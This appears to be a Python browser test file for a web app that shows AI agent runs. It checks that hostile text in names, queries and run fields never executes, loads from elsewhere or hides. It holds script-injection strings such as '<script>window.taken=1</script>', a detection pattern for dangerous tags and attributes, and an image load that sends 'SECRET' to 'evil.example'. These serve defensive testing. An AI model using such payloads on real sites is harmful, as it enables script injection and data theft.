"""The corpus of hostile words through every field that an agent, a tool, a model, a name, a label or an error can fill:
in a real browser nothing of it runs, nothing is fetched, nothing hides."""

import re
from collections.abc import Callable, Iterator, Sequence
from itertools import count
from typing import Any

import pytest
from django.test import Client
from playwright.sync_api import Page, expect

from control import plain
from control.accounts.models import Role, User
from tests.control.records import make_run
from tests.e2e.conftest import Window, live
from tests.e2e.test_accessible import html_pages, leaves
from tests.fixtures.hostile import EVERY
from tests.fixtures.hostile_run import hostile_run
from tests.fixtures.scene import scene

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.browser]
# What the words have become: elements and attributes that no page of ours has, and addresses elsewhere. Fields keep the
# words as they were given, to send them back unchanged; they are not looked at. A link of a laid-out answer may lead
# elsewhere, if it is of a kind that only leads, takes nothing along and says where to.
TAKEN = """() => {
  const strange = new Set("SCRIPT IMG IMAGE IFRAME OBJECT EMBED VIDEO AUDIO STYLE LINK META BASE PORTAL TEMPLATE XMP"
    .concat(" PLAINTEXT MATH SLOT X-TAKEN ANIMATE MARQUEE FRAME").split(" "));
  const told = (node) => node.matches(".prose a") && /^(https?|mailto):$/.test(node.protocol)
    && node.target === "_blank" && node.rel === "noopener noreferrer nofollow"
    && [node.textContent, node.nextElementSibling?.textContent]
      .some((words) => words?.includes(node.getAttribute("href")));
  const found = window.taken === undefined ? [] : ["window.taken"];
  for (const node of document.body.querySelectorAll("*")) {
    if (strange.has(node.nodeName.toUpperCase())) found.push(node.outerHTML.slice(0, 200));
    for (const { name, value } of node.attributes) {
      if (/^on|^style$|^srcdoc$|^ping$|^autofocus$|^xlink:/.test(name)) found.push(`${name}=${value}`);
      const leads = /^(href|src|action|formaction|data|poster)$/.test(name);
      if (leads && new URL(value, location).origin !== location.origin && !told(node)) found.push(`${name}=${value}`);
    }
  }
  return found;
}"""
SEEN = """() => {
  const texts = [document.title];
  const all = document.createTreeWalker(document.body, NodeFilter.SHOW_ELEMENT | NodeFilter.SHOW_TEXT,
    (node) => (node.localName === "textarea" ? NodeFilter.FILTER_REJECT : NodeFilter.FILTER_ACCEPT));
  while (all.nextNode()) {
    const node = all.currentNode;
    if (node.nodeType === 3) texts.push(node.data);
    else for (const name of ["title", "aria-label", "alt", "placeholder"])
      if (node.getAttribute(name)) texts.push(node.getAttribute(name));
  }
  return texts.join("\\n");
}"""


def teller(words: Sequence[str]) -> Callable[[], str]:
    """Each time all of these words, beginning with another one, so that short fields get each of them in turn."""
    turns = count()

    def say() -> str:
        start = next(turns) % len(words)
        return "\n".join((*words[start:], *words[:start]))

    return say


def squeezed(text: str) -> str:
    return re.sub(r"\s+", "", text)


def harmless(page: Page, path: str) -> str:
    """Everything that can be seen on the page, after nothing else was found on it."""
    assert page.evaluate(TAKEN) == [], path
    seen = str(page.evaluate(SEEN))
    assert plain.visible(seen) == seen, path
    return squeezed(seen)


def shows(seen: str, words: Sequence[str]) -> Iterator[str]:
    """Those of the words that cannot be seen in it."""
    for one in words:
        if squeezed(plain.visible(one.strip()))[:60] not in seen:
            yield one


@pytest.fixture
def page(window: Window) -> Page:
    """An admin's page, whose own name is not to be trusted either."""
    opened = window.page(role=Role.ADMIN)
    User.objects.filter(username=Role.ADMIN.value).update(username="<script>window.taken=1</script>\u202eanna\u200b")
    return opened


@pytest.mark.case("A6-04", "A6-05")
def test_nothing_in_a_run_executes_loads_or_hides(window: Window, page: Page):
    gone = leaves(window, page)
    chunks = [EVERY[start : start + 25] for start in range(0, len(EVERY), 25)]
    for words in chunks[1:]:
        run = hostile_run(teller(words))
        path = f"/runs/{run.pk}/"
        page.goto(path)
        assert list(shows(harmless(page, path), words)) == []
        page.evaluate("document.documentElement.dataset.prose = 'laid'")
        page.locator("#turns details").evaluate_all("all => all.forEach((one) => (one.open = true))")
        assert list(shows(harmless(page, path), words)) == []
    watched = make_run(task="Watched")
    live(page, f"/runs/{watched.pk}/")
    hostile_run(teller(chunks[0]), watched)
    expect(page.locator(".ask")).to_be_visible()
    assert list(shows(harmless(page, "live"), chunks[0])) == []
    for path in ("/", "/?q=" + "<script>window.taken=1</script>", "/inbox/", f"/runs/{watched.pk}/interrupt"):
        page.goto(path)
        harmless(page, path)
    both: list[list[str]] = page.evaluate(
        'async (words) => { const { visible } = await import("/static/js/plain.js"); return words.map(visible); }',
        EVERY,
    )
    assert both == [plain.visible(word) for word in EVERY], "the browser writes live text as the server does"
    assert window.complaints == [] and gone == []


@pytest.mark.case("A6-05")
def test_nothing_elsewhere_executes_loads_or_hides(window: Window, page: Page):
    gone = leaves(window, page)
    say = teller(EVERY)
    shown = scene(lambda _: say())
    asker = Client()
    asker.force_login(User.objects.get())
    texts: dict[str, Any] = {}
    for path in [*html_pages(shown.parts, asker), "/stop/?agent=%3Cimg%20src%3D/taken%3E", "/?view=needs"]:
        if path not in ("/api/docs", "/styleguide"):
            page.goto(path)
            texts[path] = harmless(page, path)
    assert list(shows(texts["/audit/"], EVERY)) == []
    assert window.complaints == [] and gone == []


@pytest.mark.case("A6-04")
def test_what_wants_out_all_the_same_is_stopped_and_reported(window: Window):
    """Should markup ever get onto a page, the policy is the second wall; it says so in the log."""
    run = make_run(task="Watched")
    page = window.page()
    page.goto(f"/runs/{run.pk}/")
    with page.expect_response("**/csp-report") as reported:
        page.evaluate("document.body.append(Object.assign(new Image(), { src: '//evil.example/p.png?d=SECRET' }))")
    assert reported.value.status == 204
    (log,) = window.web.house.root.glob("web-*.log")
    told = log.read_text()
    assert "A page wanted more than it may" in told and "//evil.example/p.png?…" in told and "SECRET" not in told
